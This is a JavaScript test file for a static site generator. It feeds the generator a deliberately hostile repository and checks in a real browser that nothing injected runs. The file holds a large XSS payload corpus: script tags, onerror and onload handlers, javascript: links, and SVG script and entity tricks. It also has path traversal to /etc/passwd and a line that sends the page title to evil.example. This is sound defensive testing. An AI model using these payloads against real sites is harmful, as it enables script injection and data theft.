// A repository that means harm, built and opened in a real browser under the pages' own policy: from the folder, and from a
// host that adds no policy of its own. Nothing in it may run. GROUNDUP: the program.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { dirname, extname, join, relative } from 'node:path'
import { after, before, test } from 'node:test'
import { pathToFileURL } from 'node:url'
import { chromium } from 'playwright-core'

// What would tell that it ran: a mark on the window, a dialog, or a request that leaves the folder.
const run = 'globalThis.ran=1;alert(1);new Image().src=`https://evil.example/${document.title}`'
const element = `<script>${run}</script>`
const handler = `<img src=x onerror="${run}">`
const closing = `</script></title></style></textarea></pre>"'>${element}${handler}<svg onload="${run}">`
const quoted = text => `'${text.replaceAll("'", "''")}'`
const evil = quoted(closing)
const svg = inside => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${inside}</svg>`

const drawings = {
  'script.svg': svg(`<script>${run}</script>`),
  'prefix.svg': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run}</s:script></s:svg>`,
  'load.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${run.replaceAll('`', '')}"/>`,
  'animate.svg': svg('<a><animate attributeName="href" values="&#106;avascript:globalThis.ran=1" dur="1s"/><rect width="9" height="9"/></a>'),
  'link.svg': svg('<a href="java&#x09;script:globalThis.ran=1"><rect width="9" height="9"/></a>'),
  'foreign.svg': svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="globalThis.ran=1"/></body></foreignObject>`),
  'fetch.svg': svg('<image href="https://evil.example/x.png" width="9" height="9"/>'),
  'entity.svg': `<!DOCTYPE svg [<!ENTITY x "<script>globalThis.ran=1</script>">]>${svg('&x;')}`,
  'wide.svg': Buffer.from(`\ufeff${svg('<script>globalThis.ran=1</script>')}`, 'utf16le'),
  'good.svg': svg('<rect width="9" height="9"/>'),
}

const build = `# ${closing}

${handler} ${element} <iframe srcdoc="${element.replaceAll('"', '&quot;')}"></iframe> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:${run}"> <form action="javascript:${run}"><button>x</button></form>

[a](javascript:globalThis.ran=1) [b](JaVaScRiPt:globalThis.ran=1) [c](java&Tab;script:globalThis.ran=1) [d](&#106;avascript:globalThis.ran=1)
[e](data:text/html,<script>parent.ran=1</script>) [f](vbscript:x) [g][ref] <javascript:globalThis.ran=1> [h](<javascript:globalThis.ran=1> "${handler}")
[up](../../../../../../etc/passwd) ![i](javascript:globalThis.ran=1) ![j](data:image/svg+xml,%3Csvg%20onload=globalThis.ran=1%3E)
![k](https://evil.example/x.png)

[ref]: javascript:globalThis.ran=1

## Step ${handler} {#" onclick="globalThis.ran=1}

\`\`\`html" onmouseover="globalThis.ran=1
${closing}
\`\`\`

| a ${element} | b |
|---|---|
| ${handler} | [x](item:sand?quantity=1) |

<style>@import url(https://evil.example/x.css);</style> <link rel="stylesheet" href="https://evil.example/x.css"> <object data="javascript:x"></object>
`

const files = {
  'groundup.yaml': `kind: repository\nformat: 1\nname: trap\ntitle: ${evil}\nsummary: ${evil}\nurl: 'javascript:globalThis.ran=1'
claims:\n  - {id: c, title: ${evil}, claim: ${evil}, note: ${evil}, sources: [{title: ${evil}, grade: stated}], measures: [{figure: cost, of: trap, at: works, at-most: 1 USD, note: ${evil}}]}\n`,
  'plans/trap/plan.yaml': `kind: plan\nid: trap\ntitle: ${evil}\nversion: ${evil}\nsummary: ${evil}\ndescription: ${evil}\nkeywords: [${evil}]
license: CC0-1.0\nauthors: [{name: ${evil}, url: 'javascript:globalThis.ran=1'}]\ninstructions: build.md\nimage: good.svg\nimage-alt: ${evil}
files: [${[...Object.keys(drawings), "a\"' onerror=x.svg", 'page.html', '../../../etc/passwd', '..\\..\\x', '/etc/passwd'].map(path => `{path: ${quoted(path)}, role: drawing}`).join(', ')}]
bom:\n  - {item: sand, quantity: 1 kg, note: ${evil}}\n  - {part: leg, title: ${evil}, quantity: 1 ea, note: ${evil}, from: [{item: sand, quantity: 1 kg, note: ${evil}}], operations: [{capability: cut, title: ${evil}, note: ${evil}, time: 1 h, labour: {skill: welder, time: 1 h}}]}
safety: [{hazard: ${evil}, note: ${evil}}]\nsources: [{id: s, title: ${evil}, url: 'javascript:globalThis.ran=1', grade: stated, note: ${evil}}]\n`,
  // Ids that are none: they are told, and lead nowhere.
  'plans/x/plan.yaml': `kind: plan\nid: ${quoted(`../../x"><script>globalThis.ran=1</script>`)}\nbom: [{item: sand, quantity: 1 kg}]\n`,
  'plans/trap/build.md': build,
  [`plans/trap/a"' onerror=x.svg`]: svg(''),
  'plans/trap/page.html': element,
  'materials/sand.yaml': `kind: material\nid: sand\ntitle: ${evil}\nunit: kg\nmass: 1 kg/kg\norigin: raw\nfrom: ground\ndescription: ${evil}\nprice: 1 USD/kg\nsources: [{title: ${evil}, url: 'data:text/html,x', grade: stated}]\n`,
  'capabilities/cut.yaml': `kind: capability\nid: cut\ntitle: ${evil}\ndescription: ${evil}\n`,
  'facilities/works.yaml': `kind: facility\nid: works\ntitle: ${evil}\ndescription: ${evil}\nimports: any\nlabour: [{skill: welder, people: 1, wage: 1 USD/h}]\nequipment: [{id: saw, title: ${evil}, provides: [{capability: cut}]}]\nresources: [{item: sand}]\n`,
  ...Object.fromEntries(Object.entries(drawings).map(([name, content]) => [`plans/trap/${name}`, content])),
}

let folder, site, browser, server, host
before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'groundup-'))
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, 'trap', path)), { recursive: true })
    writeFileSync(join(folder, 'trap', path), content)
  }
  // History is shown too, and feeds the feed.
  const author = ['-c', 'user.name=<img src=x onerror=alert(1)>', '-c', 'user.email=a@example.org', '-c', 'commit.gpgsign=false']
  for (const words of [['init', '-q'], ['add', '-A'], ['commit', '-q', '-m', closing]]) {
    assert.equal(spawnSync('git', [...author, ...words], { cwd: join(folder, 'trap') }).status, 0, words[0])
  }
  site = join(folder, 'site')
  const { status, stderr } = spawnSync(process.env.GROUNDUP, ['site', join(folder, 'trap'), '-o', site, '--base-url', 'https://example.org/'], { encoding: 'utf8' })
  assert.equal(status, 1, stderr)
  // As plain a host as there is.
  const types = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml', '.xml': 'application/xml', '.json': 'application/json' }
  server = createServer((request, response) => {
    const path = join(site, decodeURIComponent(new URL(request.url, 'http://localhost').pathname))
    let content
    try { if (!relative(site, path).startsWith('..')) content = readFileSync(path) } catch {}
    response.writeHead(content ? 200 : 404, { 'content-type': types[extname(path)] ?? 'text/plain' }).end(content)
  })
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve))
  host = `http://127.0.0.1:${server.address().port}/`
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox'] })
})
after(async () => { await browser?.close(); server?.close(); rmSync(folder, { recursive: true, force: true }) })

const all = at => readdirSync(at).flatMap(name => statSync(join(at, name)).isDirectory() ? all(join(at, name)) : [join(at, name)])

test('what runs by itself is left out, what does not is there', () => {
  const there = all(join(site, 'files')).map(path => relative(join(site, 'files', 'trap'), path)).sort()
  assert.deepEqual(there, [`a"' onerror=x.svg`, 'good.svg'])
  assert.ok(all(site).every(path => !path.includes('passwd')))
})

for (const scheme of ['file', 'http']) {
  test(`nothing runs by ${scheme}`, async () => {
    const root = scheme === 'file' ? pathToFileURL(site + '/').href : host
    const context = await browser.newContext()
    const faults = []
    const page = await context.newPage()
    page.on('dialog', dialog => { faults.push(`a dialog on ${page.url()}`); dialog.dismiss() })
    page.on('request', request => { if (!request.url().startsWith(root) && !request.url().startsWith('data:')) faults.push(`request: ${request.url()}`) })
    page.on('pageerror', error => faults.push(`${page.url()}: ${error.message}`))
    page.on('console', message => { if (message.type() === 'error' && !message.location().url.endsWith('/favicon.ico')) faults.push(`${page.url()}: ${message.text()}`) })
    const opened = all(site).map(path => relative(site, path)).filter(path => ['.html', '.svg', '.xml'].includes(extname(path)))
    for (const path of ['plans/trap.html', 'claims.html', 'feed.xml', 'files/trap/good.svg']) assert.ok(opened.includes(path), path)
    for (const path of opened) {
      await page.goto(root + path.split('/').map(encodeURIComponent).join('/'))
      const { ran, bad } = await page.evaluate(() => {
        // Handlers wait for a touch, links for a click: none may be there.
        const bad = [...document.querySelectorAll('*')].flatMap(element => [...element.attributes].filter(({ name, value }) =>
          name.startsWith('on') || (/^(href|src|action|xlink:href|data|srcdoc|formaction)$/.test(name) && /^[\s\0-\x20]*(javascript|vbscript|data:text)/i.test(value))).map(({ name, value }) => `${name}=${value}`))
        const foreign = [...document.querySelectorAll('iframe, object, embed, base, form, meta[http-equiv=refresh], foreignObject')].map(element => element.tagName)
        const scripts = [...document.querySelectorAll('script')].filter(script => script.type !== 'application/ld+json' && !script.src).map(() => 'a script in the page')
        return { ran: globalThis.ran, bad: [...bad, ...foreign, ...scripts] }
      })
      assert.equal(ran, undefined, path)
      assert.deepEqual(bad, [], path)
    }
    // What scripts put into pages later: search, the bench, the choice of a place, and what is left behind in the tree.
    await page.goto(`${root}index.html`)
    await page.keyboard.press('/')
    await page.keyboard.type('script')
    await page.locator('#found [role=option]').first().waitFor()
    await page.goto(`${root}can-i-make-it.html`)
    await page.locator('#bench [role=status]').waitFor()
    await page.locator('#bench summary').first().click()
    assert.equal(await page.evaluate(() => globalThis.ran), undefined)
    assert.deepEqual(faults, [])
    await context.close()
  })
}

test('data of the page are data', async () => {
  const page = readFileSync(join(site, 'plans', 'trap.html'), 'utf8')
  const blocks = [...page.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs)]
  assert.equal(blocks.length, 1)
  assert.equal(JSON.parse(blocks[0][1])['@graph'][0].name, closing)
  for (const name of ['feed.xml', 'sitemap.xml', 'search.js', 'makeable.js']) assert.ok(!/<script|<img|<svg/i.test(readFileSync(join(site, name), 'utf8')), name)
})
